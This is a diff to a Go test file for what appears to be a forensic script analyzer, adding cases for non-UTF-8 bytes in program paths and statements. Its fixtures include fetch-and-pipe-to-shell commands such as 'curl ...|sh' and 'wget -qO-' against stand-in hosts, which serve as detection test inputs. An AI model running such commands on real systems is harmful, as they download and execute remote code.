@@ -12,6 +12,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode/utf8"
 
 	"icecore/forensics/artifact"
 )
@@ -411,7 +412,7 @@ func TestTraits(t *testing.T) {
 		{"<?php\n/tmp/.x/a &\n", "background,hidden_exec,temp_exec"},
 		{"a )\n/tmp/a\n(\n", "temp_exec"},
 		{"foo(\n" + dropper + "\n", "fetch,pipe_to_shell"},
-		{"\x00\xff " + dropper, "fetch,pipe_to_shell"},
+		{"\x00\xff " + dropper, "pipe_to_shell"},
 		{"don't run\n/usr/bin/x '\n", ""},
 	} {
 		f := Analyze(tt.text)
@@ -453,6 +454,11 @@ func TestPrograms(t *testing.T) {
 		{`"/opt/{a,b}/m"`, "/opt/{a,b}/m", ""},
 		{"sh -c '/opt/a,b/run; /opt/c'", "sh,/opt/a,b/run,/opt/c", ""},
 		{"'/tmp/.x/a\nb' -c /c", "/tmp/.x/a\nb", ""},
+		// What is no UTF-8 is a name, too: Latin-1, GBK.
+		{"/opt/\xe9/m -x; /opt/\xe9\xff/n", "/opt/\xe9/m,/opt/\xe9\xff/n", ""},
+		{"/opt/caf\u00e9/\xe9\x01\x02/m", "/opt/caf\u00e9/\xe9\x01\x02/m", ""},
+		{"sh -c '/opt/\xb5\xb1/m'", "sh,/opt/\xb5\xb1/m", ""},
+		{"curl http://192.0.2.77/\xe9|sh", "curl,sh", "http://192.0.2.77/\xe9"},
 		{"curl 192.0.2.77/j,k|sh", "curl,sh", "192.0.2.77/j,k"},
 		{"wget -qO- evil.example.net:8080/a,b?x=1,2", "wget", "evil.example.net:8080/a,b?x=1,2"},
 		{"wget -qO- evil.example.net,other.example.net", "wget", ""},
@@ -464,6 +470,41 @@ func TestPrograms(t *testing.T) {
 		if got := strings.Join(f.URLs, ","); got != tt.urls {
 			t.Errorf("%q: urls %q, want %q", tt.text, got, tt.urls)
 		}
+	}
+}
+
+// A statement with bytes that are no UTF-8 stands at its place, with the bytes of
+// the script.
+func TestStatementsRaw(t *testing.T) {
+	const script = "# caf\xe9\nif true; then\n  /opt/\xe9/\xb5/m -x\nfi\n"
+	list := Statements(script)
+	if len(list) == 0 {
+		t.Fatal("no statement")
+	}
+	st := list[len(list)-1]
+	if want := "/opt/\xe9/\xb5/m"; len(st.Facts.Programs) != 1 || st.Facts.Programs[0] != want {
+		t.Errorf("programs %q, want %q", st.Facts.Programs, want)
+	}
+	if got := script[st.Offset : st.Offset+st.Length]; got != st.Text || st.Text != "/opt/\xe9/\xb5/m -x" || st.Line != 3 {
+		t.Errorf("line %d: %q, in the script %q", st.Line, st.Text, got)
+	}
+}
+
+// Each byte that is no UTF-8 comes back, as long as there are control characters
+// that the text does not hold.
+func TestTakeRaw(t *testing.T) {
+	var all []byte
+	for b := 0x80; b < 0x98; b++ {
+		all = append(all, byte(b), ' ')
+	}
+	for _, in := range []string{"", "abc\u00e9", "\xff", "a\xffb\xfe\xff\u4e2d", string(all), "\x01\xff\x02"} {
+		out, r := takeRaw(in)
+		if !utf8.ValidString(out) || len(out) != len(in) || r.text(out) != in {
+			t.Errorf("%q became %q and %q again", in, out, r.text(out))
+		}
+	}
+	if out, _ := takeRaw(string(all) + "\x98\x99\x9a\x9b"); !utf8.ValidString(out) || !strings.Contains(out, "?") {
+		t.Errorf("%q", out)
 	}
 }
 
